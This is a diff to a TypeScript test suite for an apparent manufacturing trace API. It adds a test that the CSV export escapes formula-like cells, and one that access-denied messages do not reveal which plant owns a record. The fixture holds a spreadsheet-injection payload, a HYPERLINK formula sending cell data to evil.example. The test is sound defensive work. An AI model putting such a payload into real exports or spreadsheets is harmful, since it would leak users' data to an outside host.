@@ -34,7 +34,7 @@ interface Hop {
 }
 
 let seq = 0
-function rows(t: { cid: string; plant: string; flow?: string; origin: number; wo?: string; lot?: string; hops: Hop[] }) {
+function rows(t: { cid: string; plant: string; flow?: string; origin: number; wo?: string; lot?: string; material?: string; hops: Hop[] }) {
   return t.hops.map((h) => ({
     event_id: `${t.cid}-e${++seq}`,
     event_type: h.type,
@@ -47,7 +47,7 @@ function rows(t: { cid: string; plant: string; flow?: string; origin: number; wo
     plant: t.plant,
     line: 'L01',
     work_order: t.wo ?? '',
-    material: 'FG10001',
+    material: t.material ?? 'FG10001',
     lot: t.lot ?? '',
     erp_document: h.doc ?? '',
     attempt: h.attempt ?? 0,
@@ -62,6 +62,8 @@ const HAPPY: Hop[] = [
   { type: 'erp.posting_requested', hop: 'erp', at: 0.5, attempt: 1 },
   { type: 'erp.posting_succeeded', hop: 'erp', at: 1, attempt: 1, doc: '4900001234' },
 ]
+
+const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A2,"click")'
 
 const happy = rows({ cid: 'tr-happy', plant: '1000', origin: NOW - 60 * MIN, wo: '155000072353', lot: '0000074270', hops: HAPPY })
 
@@ -91,6 +93,8 @@ beforeAll(async () => {
     ...rows({ cid: 'tr-fresh', plant: '1000', origin: NOW - 2 * MIN, wo: '155000000002', hops: [HAPPY[0]!] }),
     ...rows({ cid: 'tr-slow-ok', plant: '1100', origin: NOW - 20 * MIN, wo: '155000000003', hops: [HAPPY[0]!] }),
     ...rows({ cid: 'tr-other-plant', plant: '2000', origin: NOW - 30 * MIN, wo: '155000072353', hops: HAPPY }),
+    // A material as a telemetry producer (or an edited replay) may send it: a spreadsheet formula.
+    ...rows({ cid: 'tr-formula', plant: '3000', origin: NOW - 40 * MIN, wo: '@155000000009', material: FORMULA, hops: HAPPY }),
   ] })
 })
 afterAll(() => stop())
@@ -130,13 +134,17 @@ describe('GET /api/v1/traces/{correlationId}', () => {
     const other = await trace('tr-other-plant', viewerToken)
     expect(other.status).toBe(403)
     expect(other.body.error?.message).toContain('not in your plants')
+    // The owning plant is not named: a user outside it learns nothing about it.
+    expect(other.body.error?.message).not.toMatch(/2000/)
   })
 
   it('shows a payload as formatted text, checking the plant', async () => {
     const q = { correlationId: 'tr-happy', eventId: happy[4]!.event_id, t: happy[0]!.origin_time }
     const payload = await getHopPayload(makeCtx({ db: runtime.db.prisma, ch: runtime.clickhouse }, makePrincipal('viewer', ['1000'])), q)
     expect(payload.text).toBe(JSON.stringify({ doc: '4900001234', note: '<script>x</script>' }, null, 2))
-    await expect(getHopPayload(makeCtx({ db: runtime.db.prisma, ch: runtime.clickhouse }, makePrincipal('viewer', ['2000'])), q)).rejects.toThrow(/not in your plants/)
+    await expect(getHopPayload(makeCtx({ db: runtime.db.prisma, ch: runtime.clickhouse }, makePrincipal('viewer', ['2000'])), q)).rejects.toThrow(
+      'Transaction tr-happy is not in your plants. Ask an admin for access to the plant it belongs to.',
+    )
   })
 })
 
@@ -193,5 +201,14 @@ describe('GET /api/v1/traces', () => {
     const lines = (await res.text()).trim().split('\n')
     expect(lines[0]).toMatch(/^correlation_id,origin_time,plant/)
     expect(lines.some((l) => l.startsWith('tr-happy,'))).toBe(true)
+  })
+
+  it('exports formula-like cells as text and times as ISO 8601', async () => {
+    const text = await (await exportCsv(req('/api/v1/traces/export?plant=3000'))).text()
+    const [header, row, ...rest] = text.split('\r\n')
+    expect(header).toBe('correlation_id,origin_time,plant,line,flow,work_order,material,state,e2e_latency_ms,sla_ms,attempts,erp_documents')
+    expect(rest).toEqual([''])
+    const origin = new Date(NOW - 40 * MIN).toISOString()
+    expect(row).toBe(`tr-formula,${origin},3000,L01,production_confirmation,'@155000000009,"'=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",posted,${MIN},300000,1,4900001234`)
   })
 })
